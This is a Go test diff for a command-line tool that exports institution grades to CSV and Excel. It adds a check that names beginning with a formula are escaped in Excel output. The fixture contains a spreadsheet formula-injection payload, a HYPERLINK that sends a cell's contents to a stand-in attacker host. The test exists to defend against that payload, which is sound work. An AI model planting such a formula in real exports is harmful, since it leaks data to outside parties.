@@ -7,6 +7,7 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/xuchang-hrss/creditsync/transform"
 	"github.com/xuri/excelize/v2"
 )
 
@@ -19,7 +20,14 @@ func TestGradesForExcel(t *testing.T) {
 	env := []string{"CREDITSYNC_DATA=" + dir}
 	const digits = "124110024151189320" // a public talent centre: all digits
 	register := filepath.Join(dir, "机构名录.csv")
-	text := "uscc,name,county_code,licensed_on,commitment_signed_on\n" + digits + ",许昌市魏都区人才交流中心,411002,2020-01-01,2020-02-01\n"
+	ch, err := transform.USCCCheckChar("91411002MA4000000")
+	if err != nil {
+		t.Fatal(err)
+	}
+	// A name from outside that Excel would run as a formula.
+	const formula = `=HYPERLINK("http://evil.example/?"&A2,"详情")`
+	text := "uscc,name,county_code,licensed_on,commitment_signed_on\n" + digits + ",许昌市魏都区人才交流中心,411002,2020-01-01,2020-02-01\n" +
+		"91411002MA4000000" + string(ch) + `,"` + strings.ReplaceAll(formula, `"`, `""`) + `",411002,2020-01-01,2020-02-01` + "\n"
 	if err := os.WriteFile(register, []byte(text), 0o644); err != nil {
 		t.Fatal(err)
 	}
@@ -39,6 +47,12 @@ func TestGradesForExcel(t *testing.T) {
 	forExcel := runCLI(t, env, "grades", "--on", "2026-08-07", "--format", "csv", "--excel")
 	if forExcel.code != 0 || !strings.HasPrefix(forExcel.stdout, "\ufeffuscc,") || !strings.Contains(forExcel.stdout, `"=""`+digits+`"""`) {
 		t.Errorf("CSV for Excel: exit %d\n%s", forExcel.code, forExcel.stdout)
+	}
+	if quoted := `"'` + strings.ReplaceAll(formula, `"`, `""`) + `"`; !strings.Contains(forExcel.stdout, quoted) {
+		t.Errorf("CSV for Excel: the formula name not written as text %s:\n%s", quoted, forExcel.stdout)
+	}
+	if quoted := `,"` + strings.ReplaceAll(formula, `"`, `""`) + `"`; !strings.Contains(plain.stdout, quoted) {
+		t.Errorf("plain CSV: the name not as stored %s:\n%s", quoted, plain.stdout)
 	}
 	book := runCLI(t, env, "grades", "--on", "2026-08-07", "--format", "xlsx")
 	if book.code != 0 {
